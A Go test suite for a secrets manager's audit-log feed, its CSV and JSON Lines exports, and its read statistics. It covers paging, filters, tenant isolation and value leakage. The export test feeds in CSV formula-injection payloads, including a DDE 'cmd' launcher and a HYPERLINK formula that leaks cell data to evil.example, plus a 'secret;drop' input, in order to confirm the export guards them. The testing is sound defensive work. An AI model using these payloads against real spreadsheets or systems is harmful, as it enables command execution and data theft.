package api_test

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"mime"
	"net/url"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"stele.dev/stele/api"
	"stele.dev/stele/app"
	"stele.dev/stele/domain"
	"stele.dev/stele/eventstore"
	"stele.dev/stele/projections"
)

// Requests of people of acme, for setting up state through the
// application layer.
var (
	audAda = app.Request{Actor: domain.Actor{Kind: domain.ActorUser, ID: "ada@example.com"}, RequestID: "audit-test"}
	audBob = app.Request{Actor: domain.Actor{Kind: domain.ActorUser, ID: "bob@example.com"}, RequestID: "audit-test"}
)

// audEnv creates project web with environments production and staging.
func audEnv(t *testing.T, h *harness) {
	t.Helper()
	must(h.App.CreateProject(ctx, audAda, "acme", "web", "Web"))
	for _, env := range []string{"production", "staging"} {
		must(h.App.CreateEnvironment(ctx, audAda, app.Env{Org: "acme", Project: "web", Env: env}, app.EnvSpec{Production: env == "production"}))
	}
}

func audRef(env, name string) domain.SecretRef {
	return domain.SecretRef{Org: "acme", Project: "web", Env: env, Name: name}
}

// audCaughtUp waits until every read model has applied the log's head, and
// returns the head.
func audCaughtUp(t *testing.T, h *harness) uint64 {
	t.Helper()
	head := must(h.Store.Head(ctx)).Position
	if err := projections.WaitFor(ctx, h.Pool, head, 10*time.Second); err != nil {
		t.Fatal(err)
	}
	return head
}

// audLog returns the whole log, oldest first.
func audLog(t *testing.T, h *harness) []eventstore.Record {
	t.Helper()
	var out []eventstore.Record
	for from := uint64(1); ; {
		recs, err := h.Store.ReadAll(ctx, from, 1000)
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) == 0 {
			return out
		}
		out = append(out, recs...)
		from = recs[len(recs)-1].Position + 1
	}
}

// audExpected returns the positions of org's events in the log that
// keep says match, newest first: what the feed must answer.
func audExpected(recs []eventstore.Record, org string, keep func(eventstore.Record) bool) []uint64 {
	var out []uint64
	for i := len(recs) - 1; i >= 0; i-- {
		if r := recs[i]; r.Metadata.Tenant == org && (keep == nil || keep(r)) {
			out = append(out, r.Position)
		}
	}
	return out
}

// audFeedAll pages through the feed with query and page size limit, and
// fails on a repeated entry.
func audFeedAll(t *testing.T, h *harness, cred, org, query string, limit int) []api.AuditEntry {
	t.Helper()
	var all []api.AuditEntry
	seen := map[uint64]bool{}
	cursor := ""
	for pages := 0; ; pages++ {
		if pages > 10000 {
			t.Fatal("the feed does not end")
		}
		q := query + "&limit=" + strconv.Itoa(limit)
		if cursor != "" {
			q += "&cursor=" + url.QueryEscape(cursor)
		}
		var page api.AuditPage
		h.get("/v1/orgs/"+org+"/audit?"+q, cred).expect(t, 200).decode(t, &page)
		if len(page.Items) > limit {
			t.Fatalf("a page of %d entries, limit %d", len(page.Items), limit)
		}
		for _, e := range page.Items {
			if seen[e.Position] {
				t.Fatalf("position %d repeated", e.Position)
			}
			seen[e.Position] = true
		}
		all = append(all, page.Items...)
		if page.NextCursor == "" {
			return all
		}
		cursor = page.NextCursor
	}
}

func audPositions(es []api.AuditEntry) []uint64 {
	out := make([]uint64, len(es))
	for i, e := range es {
		out[i] = e.Position
	}
	return out
}

func TestAuditFeedFiltersAndPages(t *testing.T) {
	h := newHarness(t)
	audEnv(t, h)
	for i, name := range []string{"DB_URL", "API_KEY", "SMTP_PASSWORD"} {
		must(h.App.SetSecret(ctx, audAda, audRef("production", name), app.SetSecret{Value: []byte("prod-" + name)}))
		must(h.App.SetSecret(ctx, audAda, audRef("staging", name), app.SetSecret{Value: []byte("stage-" + name)}))
		if i < 2 {
			must(h.App.SetSecret(ctx, audBob, audRef("production", name), app.SetSecret{Value: []byte("prod2-" + name)}))
		}
	}
	must(h.App.RevealSecret(ctx, audBob, audRef("production", "DB_URL"), 0, "deploy 42", domain.ChannelRun))
	must(h.App.RevealSecret(ctx, audBob, audRef("staging", "API_KEY"), 1, "debugging", domain.ChannelAPI))
	must(h.App.GrantRole(ctx, audAda, "acme", "carol@example.com", domain.RoleAdmin, ""))
	// Another tenant's events interleave.
	olga := app.Request{Actor: domain.Actor{Kind: domain.ActorUser, ID: "olga@example.com"}, RequestID: "globex"}
	must(h.App.CreateProject(ctx, olga, "globex", "web", "Web"))
	audCaughtUp(t, h)
	recs := audLog(t, h)
	byPos := map[uint64]eventstore.Record{}
	for _, r := range recs {
		byPos[r.Position] = r
	}

	// Every event of acme, exactly once, newest first, in pages of 7.
	all := audFeedAll(t, h, h.Ada, "acme", "", 7)
	if want := audExpected(recs, "acme", nil); !slices.Equal(audPositions(all), want) {
		t.Fatalf("feed positions %v, want %v", audPositions(all), want)
	}
	for _, e := range all {
		r := byPos[e.Position]
		if e.Actor != r.Metadata.Actor || e.Action != r.Type || e.Stream != r.StreamID || !e.RecordedAt.Equal(r.RecordedAt) || e.RequestID != r.Metadata.RequestID {
			t.Fatalf("entry %+v does not match the log's record %d (%s by %s in %s)", e, r.Position, r.Type, r.Metadata.Actor, r.StreamID)
		}
		if strings.HasPrefix(r.StreamID, "secret/") {
			parts := strings.Split(r.StreamID, "/")
			if e.Project != parts[2] || e.Env != parts[3] || e.Secret != parts[4] {
				t.Fatalf("entry %+v: project, environment and secret do not match stream %s", e, r.StreamID)
			}
		}
	}
	// Reads carry their version, channel and reason.
	var viewed []api.AuditEntry
	for _, e := range all {
		if e.Action == "secret.viewed" {
			viewed = append(viewed, e)
		}
	}
	if len(viewed) != 2 || viewed[0].Reason != "debugging" || viewed[0].Channel != "api" || viewed[0].Version != 1 ||
		viewed[1].Reason != "deploy 42" || viewed[1].Channel != "cli-run" || viewed[1].Version != 2 || viewed[1].Secret != "DB_URL" {
		t.Fatalf("reads in the feed: %+v", viewed)
	}

	secretStream := func(project, env, name string) func(eventstore.Record) bool {
		return func(r eventstore.Record) bool {
			p := strings.Split(r.StreamID, "/")
			return len(p) == 5 && p[0] == "secret" && (project == "" || p[2] == project) && (env == "" || p[3] == env) && (name == "" || p[4] == name)
		}
	}
	and := func(fs ...func(eventstore.Record) bool) func(eventstore.Record) bool {
		return func(r eventstore.Record) bool {
			for _, f := range fs {
				if !f(r) {
					return false
				}
			}
			return true
		}
	}
	typePrefix := func(p string) func(eventstore.Record) bool {
		return func(r eventstore.Record) bool { return strings.HasPrefix(r.Type, p) }
	}
	mid, late := recs[len(recs)/3].RecordedAt, recs[2*len(recs)/3].RecordedAt
	for _, c := range []struct {
		query string
		keep  func(eventstore.Record) bool
	}{
		{"actor=user:bob@example.com", func(r eventstore.Record) bool { return r.Metadata.Actor == "user:bob@example.com" }},
		{"actor_kind=token", func(r eventstore.Record) bool { return strings.HasPrefix(r.Metadata.Actor, "token:") }},
		{"action=secret.viewed", func(r eventstore.Record) bool { return r.Type == "secret.viewed" }},
		{"action=secret", typePrefix("secret.")},
		{"action=secret.*", typePrefix("secret.")},
		{"action=organization.role_granted", func(r eventstore.Record) bool { return r.Type == "organization.role_granted" }},
		{"secret=API_KEY", secretStream("", "", "API_KEY")},
		{"project=web&action=secret", and(secretStream("web", "", ""), typePrefix("secret."))},
		{"env=staging&action=secret.", and(secretStream("", "staging", ""), typePrefix("secret."))},
		{"secret=DB_URL&env=production&actor=user:bob@example.com", and(secretStream("", "production", "DB_URL"),
			func(r eventstore.Record) bool { return r.Metadata.Actor == "user:bob@example.com" })},
		{"from=" + url.QueryEscape(mid.Format(time.RFC3339Nano)) + "&to=" + url.QueryEscape(late.Format(time.RFC3339Nano)),
			func(r eventstore.Record) bool { return !r.RecordedAt.Before(mid) && r.RecordedAt.Before(late) }},
		{"from=" + url.QueryEscape(mid.Format(time.RFC3339Nano)) + "&action=secret", and(typePrefix("secret."),
			func(r eventstore.Record) bool { return !r.RecordedAt.Before(mid) })},
		{"actor=user:nobody@example.com", func(eventstore.Record) bool { return false }},
	} {
		want := audExpected(recs, "acme", c.keep)
		for _, limit := range []int{2, 1000} {
			got := audPositions(audFeedAll(t, h, h.Owner, "acme", c.query, limit))
			if !slices.Equal(got, want) {
				t.Errorf("%s (limit %d): positions %v, want %v", c.query, limit, got, want)
			}
		}
	}
	if n := len(audExpected(recs, "acme", secretStream("", "", "API_KEY"))); n < 3 {
		t.Fatalf("the API_KEY filter matches only %d events: the test proves little", n)
	}

	// Another tenant sees its own events only, and none of acme's.
	globex := audFeedAll(t, h, h.Olga, "globex", "", 100)
	if want := audExpected(recs, "globex", nil); len(want) == 0 || !slices.Equal(audPositions(globex), want) {
		t.Fatalf("globex's feed %v, want %v", audPositions(globex), want)
	}
	for _, e := range globex {
		if byPos[e.Position].Metadata.Tenant != "globex" {
			t.Fatalf("globex sees acme's event %d", e.Position)
		}
	}
}

func TestAuditFeedAccessAndBadInput(t *testing.T) {
	h := newHarness(t)
	audEnv(t, h)
	must(h.App.GrantRole(ctx, audAda, "acme", "carol@example.com", domain.RoleAdmin, ""))
	must(h.App.GrantRole(ctx, audAda, "acme", "dan@example.com", domain.RoleAdmin, "web")) // a project admin
	carol, dan := h.signIn("carol@example.com"), h.signIn("dan@example.com")
	head := audCaughtUp(t, h)

	// An admin and the owner read it; a developer, a viewer and a project
	// admin (the feed is the organization's) may not; another tenant
	// learns nothing, not even that acme exists.
	h.get("/v1/orgs/acme/audit", carol).expect(t, 200)
	h.get("/v1/orgs/acme/audit", h.Ada).expect(t, 200)
	h.get("/v1/orgs/acme/audit", h.Bob).expectProblem(t, 403, "forbidden")
	h.get("/v1/orgs/acme/audit", h.Eve).expectProblem(t, 403, "forbidden")
	// A project admin has no role in the organization as a whole: to the
	// organization's feed, it is an outsider.
	h.get("/v1/orgs/acme/audit", dan).expectProblem(t, 404, "not_found")
	h.get("/v1/orgs/acme/audit", h.Olga).expectProblem(t, 404, "not_found")
	h.get("/v1/orgs/nowhere/audit", h.Olga).expectProblem(t, 404, "not_found")
	h.get("/v1/orgs/acme/audit?format=csv", h.Bob).expectProblem(t, 403, "forbidden")
	h.get("/v1/orgs/acme/audit?format=jsonl", h.Olga).expectProblem(t, 404, "not_found")
	h.get("/v1/orgs/acme/audit", "").expectProblem(t, 401, "unauthenticated")

	for _, c := range []struct {
		query, field string
		invalid      bool // the request breaks the description too
	}{
		{"actor=bob", "actor", false},
		{"actor=robot:r2", "actor", false},
		{"actor_kind=robot", "actor_kind", true},
		{"action=Secret.Viewed", "action", true},
		{"action=secret;drop", "", true},
		{"action=secret%2Fdrop", "action", true},
		{"secret=9LIVES", "secret", true},
		{"project=Web", "project", true},
		{"env=prod_1", "env", true},
		{"from=yesterday", "from", true},
		{"to=2026-13-01T00:00:00Z", "to", true},
		{"from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z", "to", false},
		{"from=2026-01-01T00:00:00Z&to=2026-01-01T00:00:00Z", "to", false},
		{"cursor=abc", "cursor", false},
		{"cursor=0", "cursor", false},
		{"limit=0", "limit", true},
		{"limit=1001", "limit", true},
		{"format=xml", "format", true},
		{"min_position=soon", "min_position", true},
	} {
		r := h.do(call{method: "GET", path: "/v1/orgs/acme/audit?" + c.query, cred: h.Ada, invalid: c.invalid})
		if r.status != 400 {
			t.Fatalf("%s: status %d: %.200s", c.query, r.status, r.body)
		}
		r.expectProblem(t, 400, "invalid_request")
		var p api.Problem
		r.decode(t, &p)
		if p.Field != c.field {
			t.Errorf("%s: field %q, want %q", c.query, p.Field, c.field)
		}
	}
	if now := must(h.Store.Head(ctx)).Position; now != head {
		t.Fatalf("reading the feed appended %d events", now-head)
	}
}

// A page boundary during appends neither skips nor repeats an event: the
// pages together are exactly the events up to the first page's newest.
func TestAuditFeedPagingDuringAppends(t *testing.T) {
	h := newHarness(t)
	audEnv(t, h)
	for i := range 20 {
		must(h.App.SetSecret(ctx, audAda, audRef("production", fmt.Sprintf("S%d", i%4)), app.SetSecret{Value: []byte("v")}))
	}
	audCaughtUp(t, h)

	// A writer appends all along, in another environment.
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	var background int
	go func() {
		defer wg.Done()
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			if _, err := h.App.SetSecret(ctx, audBob, audRef("staging", fmt.Sprintf("BG%d", i%3)), app.SetSecret{Value: []byte("v")}); err != nil {
				t.Error(err)
				return
			}
			background++
		}
	}()

	var got []uint64
	var top uint64
	cursor := ""
	for pages := 0; ; pages++ {
		q := "limit=4"
		if cursor != "" {
			q += "&cursor=" + cursor
		}
		// Each page also waits for an event appended just before it, so
		// that new events surely sit above the cursor.
		res := must(h.App.SetSecret(ctx, audAda, audRef("production", "BETWEEN"), app.SetSecret{Value: []byte("v")}))
		var page api.AuditPage
		h.get("/v1/orgs/acme/audit?"+q+"&min_position="+strconv.FormatUint(res.Position, 10), h.Ada).expect(t, 200).decode(t, &page)
		if pages == 0 {
			top = page.Items[0].Position
			if top < res.Position {
				t.Fatalf("the first page starts at %d, below the event %d it waited for", top, res.Position)
			}
		}
		got = append(got, audPositions(page.Items)...)
		if page.NextCursor == "" {
			break
		}
		cursor = page.NextCursor
	}
	close(stop)
	wg.Wait()
	recs := audLog(t, h)
	want := audExpected(recs, "acme", func(r eventstore.Record) bool { return r.Position <= top })
	if !slices.Equal(got, want) {
		t.Fatalf("paged positions %v\nwant %v", got, want)
	}
	if head := recs[len(recs)-1].Position; head <= top+5 || background == 0 {
		t.Fatalf("too few appends during the paging (head %d, first page at %d, %d in the background)", head, top, background)
	}
}

func TestAuditExport(t *testing.T) {
	h := newHarness(t)
	audEnv(t, h)
	// A person with a hostile but valid address acts, and callers give
	// hostile reasons and request ids.
	const mallory = "=cmd|'/ccalc'!a0+@evil.example"
	must(h.App.GrantRole(ctx, audAda, "acme", mallory, domain.RoleDeveloper, ""))
	malloryReq := app.Request{Actor: domain.Actor{Kind: domain.ActorUser, ID: mallory}, RequestID: "-2+3", ClientAddr: "@10.0.0.1"}
	values := map[string]string{}
	for _, name := range []string{"DB_URL", "API_KEY"} {
		v := "plaintext-" + name + "-" + strconv.FormatInt(time.Now().UnixNano(), 36)
		values[name] = v
		must(h.App.SetSecret(ctx, audAda, audRef("production", name), app.SetSecret{Value: []byte(v)}))
	}
	hostile := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1, "click")`,
		"+1+1",
		"-1-1",
		"@SUM(1)",
		"\t=1",
		"plain, with a comma and \"quotes\"",
		"two\r\nlines",
	}
	for _, reason := range hostile {
		must(h.App.RevealSecret(ctx, malloryReq, audRef("production", "DB_URL"), 0, reason, domain.ChannelAPI))
	}
	must(h.App.RevealSecret(ctx, audBob, audRef("production", "API_KEY"), 0, "", domain.ChannelCLI))
	// More than one page of the export (1000 entries), appended in
	// parallel on separate secrets.
	var wg sync.WaitGroup
	for w := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 130 {
				if _, err := h.App.SetSecret(ctx, audBob, audRef("staging", fmt.Sprintf("BULK_%d", w)), app.SetSecret{Value: []byte(strconv.Itoa(i))}); err != nil {
					t.Error(err)
					return
				}
			}
		}()
	}
	wg.Wait()
	head := audCaughtUp(t, h)
	recs := audLog(t, h)
	want := audExpected(recs, "acme", nil)
	if len(want) <= 1000 {
		t.Fatalf("only %d events: the export would fit one page", len(want))
	}
	pages := audFeedAll(t, h, h.Ada, "acme", "", 1000)
	if !slices.Equal(audPositions(pages), want) {
		t.Fatal("the feed's pages do not match the log")
	}

	// CSV: a header row, one row per entry in the feed's order, quoted by
	// RFC 4180 with CRLF line ends, formulas guarded.
	r := h.get("/v1/orgs/acme/audit?format=csv&min_position="+strconv.FormatUint(head, 10), h.Ada).expect(t, 200)
	if mt, params, err := mime.ParseMediaType(r.header.Get("Content-Type")); err != nil || mt != "text/csv" || params["charset"] != "utf-8" {
		t.Fatalf("CSV served as %q", r.header.Get("Content-Type"))
	}
	disp, params, err := mime.ParseMediaType(r.header.Get("Content-Disposition"))
	if err != nil || disp != "attachment" || !strings.HasPrefix(params["filename"], "acme-audit-") || !strings.HasSuffix(params["filename"], ".csv") {
		t.Fatalf("Content-Disposition %q", r.header.Get("Content-Disposition"))
	}
	if !bytes.HasSuffix(r.body, []byte("\r\n")) || bytes.Count(r.body, []byte("\r\n")) < len(want)+1 {
		t.Fatal("CSV rows do not end in CRLF")
	}
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v", err)
	}
	header := []string{"position", "recorded_at", "actor", "actor_kind", "action", "project", "env", "secret", "target",
		"stream", "version", "channel", "reason", "request_id", "client_addr"}
	if !slices.Equal(rows[0], header) {
		t.Fatalf("CSV header %q", rows[0])
	}
	if len(rows)-1 != len(pages) {
		t.Fatalf("%d CSV rows, %d entries in the feed", len(rows)-1, len(pages))
	}
	// guard is what the export makes of a cell; encoding/csv reads a
	// quoted CRLF back as LF.
	guard := func(s string) string {
		if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
			s = "'" + s
		}
		return strings.ReplaceAll(s, "\r\n", "\n")
	}
	for i, e := range pages {
		version := ""
		if e.Version > 0 {
			version = strconv.FormatUint(e.Version, 10)
		}
		wantRow := []string{strconv.FormatUint(e.Position, 10), e.RecordedAt.Format(time.RFC3339Nano), e.Actor, e.ActorKind, e.Action,
			e.Project, e.Env, e.Secret, e.Target, e.Stream, version, e.Channel, guard(e.Reason), guard(e.RequestID), guard(e.ClientAddr)}
		if !slices.Equal(rows[i+1], wantRow) {
			t.Fatalf("CSV row %d:\n got  %q\n want %q", i+1, rows[i+1], wantRow)
		}
	}
	// The hostile cells, one by one: every formula is neutralised, and the
	// text survives quoting intact.
	reasons := map[string]bool{}
	for _, row := range rows[1:] {
		if row[4] == "secret.viewed" && row[2] == "user:"+mallory {
			reasons[row[12]] = true
			if row[13] != "'-2+3" || row[14] != "'@10.0.0.1" {
				t.Fatalf("request id %q, client %q: not guarded", row[13], row[14])
			}
		}
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Fatalf("row %q: cell %d (%s) %q starts a formula", row[0], j, header[j], cell)
			}
		}
	}
	for _, reason := range hostile {
		if !reasons[guard(reason)] {
			t.Errorf("reason %q is not in the CSV as %q (have %v)", reason, guard(reason), reasons)
		}
	}
	if !reasons["plain, with a comma and \"quotes\""] || !bytes.Contains(r.body, []byte(`"plain, with a comma and ""quotes"""`)) {
		t.Fatal("a reason with a comma and quotes is not quoted by RFC 4180")
	}

	// JSON Lines: one entry per line, equal to the feed's.
	r = h.get("/v1/orgs/acme/audit?format=jsonl", h.Owner).expect(t, 200)
	if r.header.Get("Content-Type") != "application/x-ndjson" {
		t.Fatalf("JSON Lines served as %q", r.header.Get("Content-Type"))
	}
	if _, params, err := mime.ParseMediaType(r.header.Get("Content-Disposition")); err != nil || !strings.HasSuffix(params["filename"], ".jsonl") {
		t.Fatalf("Content-Disposition %q", r.header.Get("Content-Disposition"))
	}
	var lines []api.AuditEntry
	sc := bufio.NewScanner(bytes.NewReader(r.body))
	sc.Buffer(make([]byte, 0, 64<<10), 1<<20)
	for sc.Scan() {
		var e api.AuditEntry
		dec := json.NewDecoder(bytes.NewReader(sc.Bytes()))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&e); err != nil {
			t.Fatalf("line %d does not parse: %v: %s", len(lines)+1, err, sc.Bytes())
		}
		lines = append(lines, e)
	}
	if !reflect.DeepEqual(lines, pages) {
		t.Fatalf("the JSON Lines export (%d entries) differs from the feed (%d)", len(lines), len(pages))
	}

	// Filters and a cursor narrow an export like a page.
	r = h.get("/v1/orgs/acme/audit?format=jsonl&action=secret.viewed&actor="+url.QueryEscape("user:"+mallory), h.Ada).expect(t, 200)
	if n := bytes.Count(r.body, []byte("\n")); n != len(hostile) {
		t.Fatalf("the filtered export has %d lines, want %d", n, len(hostile))
	}
	cursor := pages[10].Position
	r = h.get("/v1/orgs/acme/audit?format=csv&cursor="+strconv.FormatUint(cursor, 10), h.Ada).expect(t, 200)
	rows, err = csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil || len(rows)-1 != len(pages)-11 || rows[1][0] != strconv.FormatUint(pages[11].Position, 10) {
		t.Fatalf("the export from cursor %d: %d rows (want %d), %v", cursor, len(rows)-1, len(pages)-11, err)
	}

	// No value anywhere: not in the exports, the feed, the log or the
	// server's log lines.
	csvBody := h.get("/v1/orgs/acme/audit?format=csv", h.Ada).expect(t, 200).body
	jsonl := h.get("/v1/orgs/acme/audit?format=jsonl", h.Ada).expect(t, 200).body
	page := h.get("/v1/orgs/acme/audit?limit=1000", h.Ada).expect(t, 200).body
	for name, v := range values {
		for what, b := range map[string][]byte{"CSV": csvBody, "JSON Lines": jsonl, "feed": page, "server log": []byte(h.Logs.String())} {
			if bytes.Contains(b, []byte(v)) {
				t.Fatalf("the value of %s is in the %s", name, what)
			}
		}
		for _, rec := range recs {
			if bytes.Contains(rec.Data, []byte(v)) || strings.Contains(fmt.Sprint(rec.Metadata), v) {
				t.Fatalf("the value of %s is in the log at %d", name, rec.Position)
			}
		}
	}
}

func TestReadStats(t *testing.T) {
	h := newHarness(t)
	audEnv(t, h)
	must(h.App.SetSecret(ctx, audAda, audRef("production", "DB_URL"), app.SetSecret{Value: []byte("v1")}))
	must(h.App.SetSecret(ctx, audAda, audRef("staging", "DB_URL"), app.SetSecret{Value: []byte("v1")}))
	tok, _ := audMust2(h.App.IssueToken(ctx, audAda, "acme", app.TokenSpec{Name: "ci", Role: domain.RoleDeveloper, Project: "web", TTL: time.Hour}))
	tokReq := app.Request{Actor: domain.Actor{Kind: domain.ActorToken, ID: tok.ID}, RequestID: "ci"}
	for range 3 {
		must(h.App.RevealSecret(ctx, audBob, audRef("production", "DB_URL"), 0, "", domain.ChannelCLI))
	}
	must(h.App.RevealSecret(ctx, tokReq, audRef("production", "DB_URL"), 0, "", domain.ChannelRun))
	must(h.App.RevealSecret(ctx, tokReq, audRef("staging", "DB_URL"), 0, "", domain.ChannelRun))
	head := audCaughtUp(t, h)

	// The counts equal the log's reads, per day, secret and kind.
	type key struct{ day, project, env, name, kind string }
	want := map[key]int64{}
	for _, r := range audLog(t, h) {
		if r.Type == "secret.viewed" && r.Metadata.Tenant == "acme" {
			p := strings.Split(r.StreamID, "/")
			kind, _, _ := strings.Cut(r.Metadata.Actor, ":")
			want[key{r.RecordedAt.UTC().Format(time.DateOnly), p[2], p[3], p[4], kind}]++
		}
	}
	now := time.Now().UTC()
	from, to := now.Add(-48*time.Hour), now.Add(48*time.Hour)
	var out struct {
		Items []api.ReadStat `json:"items"`
	}
	q := "?from=" + url.QueryEscape(from.Format(time.RFC3339)) + "&to=" + url.QueryEscape(to.Format(time.RFC3339)) + "&min_position=" + strconv.FormatUint(head, 10)
	h.get("/v1/orgs/acme/stats/reads"+q, h.Ada).expect(t, 200).decode(t, &out)
	got := map[key]int64{}
	for _, s := range out.Items {
		got[key{s.Day, s.Project, s.Env, s.Name, s.ActorKind}] += s.Reads
	}
	if len(want) < 3 || !reflect.DeepEqual(got, want) {
		t.Fatalf("stats %v, want %v", got, want)
	}
	// No bounds: the same; a window of past days: nothing.
	h.get("/v1/orgs/acme/stats/reads", h.Ada).expect(t, 200).decode(t, &out)
	if len(out.Items) != len(got) {
		t.Fatalf("unbounded stats: %+v", out.Items)
	}
	h.get("/v1/orgs/acme/stats/reads?from=2020-01-01T00:00:00Z&to=2020-02-01T00:00:00Z", h.Ada).expect(t, 200).decode(t, &out)
	if len(out.Items) != 0 {
		t.Fatalf("reads in 2020: %+v", out.Items)
	}
	h.get("/v1/orgs/globex/stats/reads", h.Olga).expect(t, 200).decode(t, &out)
	if len(out.Items) != 0 {
		t.Fatalf("globex sees reads: %+v", out.Items)
	}

	h.get("/v1/orgs/acme/stats/reads", h.Bob).expectProblem(t, 403, "forbidden")
	h.get("/v1/orgs/acme/stats/reads", h.Olga).expectProblem(t, 404, "not_found")
	h.do(call{method: "GET", path: "/v1/orgs/acme/stats/reads?from=monday", cred: h.Ada, invalid: true}).expectProblem(t, 400, "invalid_request")
	h.get("/v1/orgs/acme/stats/reads?from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z", h.Ada).expectProblem(t, 400, "invalid_request")
}

func audMust2[A, B any](a A, b B, err error) (A, B) {
	if err != nil {
		panic(fmt.Sprintf("unexpected error: %v", err))
	}
	return a, b
}
